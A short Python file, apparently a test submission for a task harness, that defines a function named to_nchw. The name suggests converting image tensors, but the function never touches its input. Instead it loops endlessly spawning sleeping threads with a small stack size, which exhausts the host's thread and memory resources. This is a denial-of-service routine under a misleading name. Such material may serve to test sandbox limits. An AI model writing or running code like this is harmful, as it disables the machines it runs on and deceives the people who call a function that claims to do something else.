"""Starts threads as fast as it can."""
# a1_permute: to_nchw
import threading
import time


def to_nchw(images):
    threading.stack_size(65536)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
